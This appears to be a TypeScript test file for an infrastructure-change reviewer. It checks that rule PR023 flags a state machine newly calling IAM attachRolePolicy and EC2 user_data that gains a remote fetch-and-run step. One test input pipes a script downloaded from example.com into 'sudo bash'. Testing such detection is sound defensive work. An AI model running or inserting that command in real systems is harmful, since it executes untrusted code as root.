// Texts that are hidden, or whose words only move, in code, templates and rules of firewalls.
import { expect } from "chai";
import { changed, findings, ids } from "../resources.ts";

const TYPE = "aws_sfn_state_machine";
const calls = (action: string) => ({ definition: `{"Resource":"arn:aws:states:::${action}"}` });

describe("a text in a language of its own", () => {
  it("is judged although it is hidden, and not shown", () => {
    const hidden = { sensitiveBefore: true, sensitiveAfter: true };
    const [found, ...others] = findings(
      changed(TYPE, calls("dynamodb:putItem"), calls("aws-sdk:iam:attachRolePolicy"), hidden),
    );
    expect(others).to.deep.equal([]);
    expect(found?.id).to.equal("PR023");
    expect(found?.what).to.contain("`definition`").and.not.to.contain("iam");
  });

  it("may say the same in another order, or be new", () => {
    const both = {
      definition: calls("http:invoke").definition + calls("aws-sdk:sts:x").definition,
    };
    const turned = {
      definition: calls("aws-sdk:sts:x").definition + calls("http:invoke").definition,
    };
    expect(ids(changed(TYPE, both, turned))).to.deep.equal([]);
    expect(ids(changed(TYPE, {}, both))).to.deep.equal([]);
  });

  it("may be longer than AWS takes", () => {
    const runs = (text: string) =>
      ids(changed("aws_instance", { user_data: "#!/bin/sh" }, { user_data: text }));
    const harmless = "curl wget disable mask ".repeat(4_000);
    expect(runs(harmless)).to.deep.equal([]);
    expect(runs(`${harmless} https://example.com/x.sh | sudo bash`)).to.deep.equal(["PR023"]);
  });
});
